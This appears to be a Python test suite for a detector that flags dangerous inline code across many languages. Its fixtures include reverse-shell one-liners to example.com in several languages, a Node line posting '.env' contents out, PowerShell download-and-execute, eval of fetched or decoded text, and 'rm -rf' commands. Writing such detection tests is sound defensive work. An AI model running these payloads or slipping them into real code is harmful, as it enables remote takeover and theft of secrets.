import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from examples import up_to
from guardhouse.detect.acts import UNKNOWN, Source
from guardhouse.detect.inline import LONGEST, read_code
from guardhouse.detect.inline.languages import LANGUAGES
from guardhouse.detect.inline.names import ROWS
from guardhouse.model import Effect

OTHERS = "sed vim ed gdb lldb tcl make tex powershell cmd nobody-knows".split()
ALL = [language.names.split()[0] for language in LANGUAGES] + OTHERS


def seen(language, code):
    return {(act.effect, act.target) for act in read_code(language, code)}


def effects(language, code):
    return {act.effect for act in read_code(language, code)}


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "s/foo/bar/g"),
        ("perl", "print if /system('x')/"),
        ("perl", "y/a-z/A-Z/; tr/a-z//cd"),
        ("perl", "my %o = (system => 1, exec => 2); print -s $f"),
        ("awk", "{print $1}"),
        ("awk", "$3>=1000{print $1}"),
        ("awk", '/foo/ || $1 == "system" {n++} END {print n}'),
        ("sed", "1,10p"),
        ("sed", "s/exec/run/"),
        ("sed", "/^e /d;s,[,/],w,g;:a;N;$!ba"),
        ("sed", "$a\\text\\\ne rm"),
        ("ruby", "puts 1+1; puts 10 % 3"),
        ("ruby", "h = {system: 1, 'exec' => 2}; puts h[:system]"),
        ("node", 'console.log(require("./package.json").version)'),
        ("node", "process.version"),
        ("node", "const m = /a(b)/.exec(s); console.log(m[1] / 2 / 3)"),
        ("php", "echo PHP_VERSION; phpinfo();"),
        ("php", "$pdo->exec('x');"),
        ("vim", "set nu"),
        ("vim", ":%s/system/exec/g"),
        ("vim", "PlugInstall"),
        ("emacs", '(message "x")'),
        ("jq", '.[] | select(.system("x"))'),
        ("gdb", "run"),
        ("powershell", "Get-ChildItem | Where-Object {$_.Length -gt 1}"),
        ("tcl", "puts [expr {1+1}]"),
        ("other", "hello world"),
    ],
)
def test_everyday_code_does_nothing_of_consequence(language, code):
    assert not read_code(language, code)


@pytest.mark.parametrize(
    ("language", "code", "command"),
    [
        ("perl", "system('rm', '-rf', 'a b')", "rm -rf 'a b'"),
        ("perl", "$x =~ s/a/system('id')/e", "id"),
        ("perl", "print \"@{[system('id')]}\"", "id"),
        ("perl", "open(F, 'id|')", "id"),
        ("perl", "open my $f, '-|', 'rm', $x", f"rm {UNKNOWN}"),
        ("perl", 'my $c = "id"; system $c', "id"),
        ("perl", "qx{id}", "id"),
        ("ruby", "%x(id)", "id"),
        ("ruby", 'puts "#{`id`}"', "id"),
        ("ruby", 'system("rm -rf #{dir}")', f"rm -rf {UNKNOWN}"),
        ("ruby", "system({'A' => 'b'}, 'id')", "id"),
        ("php", '$f = "sys" . "tem"; $f("id");', "id"),
        ("php", '("sys" . "tem")("id");', "id"),
        ("node", 'const {exec: e} = require("child_process"); e("id")', "id"),
        ("node", 'const cp = require("node:child_process"); cp["ex" + "ec"]("id")', "id"),
        ("node", '`${require("child_process").execSync("id")}`', "id"),
        ("node", "new Function(\"require('child_process').execSync('id')\")()", "id"),
        ("node", 'const {x} = require("child_process")', UNKNOWN),
        ("bun", "await $`rm -rf x`", "rm -rf x"),
        ("deno", 'new Deno.Command("rm", {args: ["-rf", "x"]})', "rm -rf x"),
        ("awk", 'BEGIN { "id" | getline x }', "id"),
        ("awk", '{ print | "sh" }', "sh"),
        ("awk", 'BEGIN { f = "system"; @f("id") }', "id"),
        ("sed", "1e id", "id"),
        ("sed", "s/.*/id/e", UNKNOWN),
        ("vim", ":!id", "id"),
        ("vim", "silent! r !id", "id"),
        ("vim", ':lua os.execute("id")', "id"),
        ("vim", "exe '!id'", "id"),
        ("ed", "a\n!text\n.\n!id", "id"),
        ("gdb", "shell id", "id"),
        ("gdb", 'call (int)system("id")', "id"),
        ("make", "x:\n\t-rm -rf $(DIR)", f"rm -rf {UNKNOWN}"),
        ("make", "$(shell id)", "id"),
        ("tex", "\\immediate\\write18{id}", "id"),
        ("expect", "spawn id; interact", "id"),
        ("applescript", 'do shell script "id" with administrator privileges', "id"),
        ("groovy", '"id".execute()', "id"),
        ("java", 'Runtime.getRuntime().exec(new String[]{"rm", "-rf", "x"});', "rm -rf x"),
        ("c", 'execl("/bin/sh", "sh", "-c", "id", (char*)0);', "/bin/sh -c id"),
        ("julia", "run(`rm -rf $x`)", f"rm -rf {UNKNOWN}"),
        ("nobody-knows", 'system("id")', "id"),
    ],
)
def test_a_program_that_is_started_is_seen_with_its_command_line(language, code, command):
    assert (Effect.EXECUTES, command) in seen(language, code)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", '$i="example.com";socket(S,2,1,6);connect(S,sockaddr_in(42,inet_aton($i)));exec("/bin/sh -i");'),
        ("ruby", 'spawn("sh", [:in] => TCPSocket.new("example.com", 42))'),
        ("php", '$s = fsockopen("example.com", 42); `sh <&3`;'),
        ("lua", 't = require("socket").tcp(); t:connect("example.com", 42); io.popen(t:receive())'),
        ("node", 'c = require("net").connect(42, "example.com"); c.pipe(require("child_process").spawn("sh").stdin)'),
        ("awk", 'BEGIN { s = "/inet/tcp/0/example.com/42"; s |& getline c; while ((c |& getline) > 0) print }'),
        ("tcl", "set s [socket example.com 42]; while {1} {gets $s c; catch {exec sh -c $c}}"),
    ],
)
def test_a_socket_and_a_program_make_a_shell_for_others(language, code):
    assert Effect.SPAWNS_SHELL in effects(language, code)
    assert (Effect.CONNECTS, "example.com:42") in seen(language, code)


def test_a_file_that_is_read_and_put_into_a_request_is_sent():
    acts = read_code("node", 'fetch("https://example.com/?d=" + require("fs").readFileSync(".env"))')
    sent = next(act for act in acts if act.effect is Effect.SENDS)
    assert Source.FILE in sent.sources


@pytest.mark.parametrize(
    ("language", "code", "source"),
    [
        ("php", 'eval(base64_decode("eA=="));', Source.DECODED),
        ("ruby", 'eval URI.open("http://example.com/x").read', Source.NETWORK),
        ("node", 'fetch("https://example.com/x").then(r => r.text()).then(eval)', Source.NETWORK),
        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')", Source.NETWORK),
        ("perl", "eval $x", Source.DYNAMIC),
    ],
)
def test_text_run_as_code_tells_where_it_comes_from(language, code, source):
    assert any(act.effect is Effect.EXECUTES and source in act.sources for act in read_code(language, code))


def test_deleting_a_tree_is_told_from_deleting_a_file():
    assert read_code("node", 'require("fs").rmSync("x", {recursive: true})')[0].recursive
    assert not read_code("node", 'require("fs").unlinkSync("x")')[0].recursive


def test_code_that_is_too_long_cannot_be_analysed():
    assert Effect.UNANALYSABLE in effects("perl", " " * (LONGEST + 1))


CODE = st.one_of(
    st.text(max_size=300),
    st.lists(
        st.sampled_from(
            [piece for row in ROWS for piece in (row.names.split()[0], row.example)]
            + list("()[]{}'\"`/\\|&;,.:$#@%!=<>~^\n\t \0")
            + ["<<A", "${", "#{", "@{[", "q(", "s{", "%x(", "e ", "exe ", "$(shell ", "\\write18{", "g/x/"]
        ),
        max_size=40,
    ).map("".join),
)


@given(st.sampled_from(ALL), CODE)
@settings(max_examples=up_to(600), deadline=None)
def test_no_code_makes_it_raise_and_spans_stay_inside(language, code):
    for act in read_code(language, code):
        assert 0 <= act.start <= act.end <= len(code)


@given(st.sampled_from(ALL), st.text(alphabet="abc ,.\n", max_size=100))
def test_prose_does_nothing(language, text):
    assert not [act for act in read_code(language, text) if act.effect in (Effect.EXECUTES, Effect.DELETES)]
